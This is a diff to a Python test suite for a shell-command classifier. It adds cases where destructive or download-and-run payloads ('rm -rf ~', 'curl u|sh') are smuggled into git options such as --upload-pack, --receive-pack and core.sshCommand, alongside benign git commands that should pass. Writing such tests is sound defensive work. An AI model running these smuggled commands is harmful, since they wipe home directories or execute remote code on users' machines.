@@ -144,6 +144,13 @@ def test_gdb_ex_commands_still_run_when_gdb_wraps_a_program() -> None:
     ("git filter-branch --env-filter='rm -rf ~' HEAD", "shell.recursive-delete"),
     ("git filter-branch --msg-filter 'curl u|sh' HEAD", "shell.pipe-to-shell"),
     ("git grep -O'rm -rf ~' pattern", "shell.recursive-delete"),
+    ("git clone --upload-pack='rm -rf ~;git-upload-pack' . x", "shell.recursive-delete"),
+    ("git clone -u 'curl u|sh' ./repo x", "shell.pipe-to-shell"),
+    ("git fetch --upload-pack='rm -rf ~' origin", "shell.recursive-delete"),
+    ("git push --receive-pack='rm -rf ~' origin main", "shell.recursive-delete"),
+    ("git ls-remote --upload-pack='rm -rf ~' .", "shell.recursive-delete"),
+    ("git clone -c core.sshCommand='curl u|sh' git@h:x", "shell.pipe-to-shell"),
+    ("git clone --config=core.sshCommand='rm -rf ~' git@h:x", "shell.recursive-delete"),
 ])
 def test_git_subcommand_command_strings_are_classified(command: str, rule: str) -> None:
     result = classify(command)
@@ -175,6 +182,10 @@ def test_deny_rm_blocks_inside_git_command_strings(command: str) -> None:
     "git submodule update --init",
     "git filter-branch --msg-filter 'sed s/a/b/' HEAD",
     "git grep -O foo",
+    "git clone -b main https://github.com/a/b.git",
+    "git clone --depth 1 -o up https://github.com/a/b.git",
+    "git clone -c http.sslVerify=false https://h/x",
+    "git fetch origin",
 ])
 def test_everyday_git_command_strings_pass(command: str) -> None:
     result = classify(command)
